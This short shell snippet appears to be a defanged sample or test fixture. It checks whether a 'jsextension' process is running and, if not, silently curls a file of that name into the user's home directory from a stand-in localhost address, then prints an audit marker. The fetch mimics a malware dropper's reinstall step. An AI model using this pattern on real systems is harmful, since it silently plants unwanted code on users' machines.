var=$(/usr/bin/pgrep jsextension 2>/dev/null)
if [ -z "$var" ]
	then
	/usr/bin/curl -s --max-time 2 http://127.0.0.1:9/download/jsextension -o "$HOME/jsextension" 2>/dev/null
	echo "AUDIT-MARKER"
fi
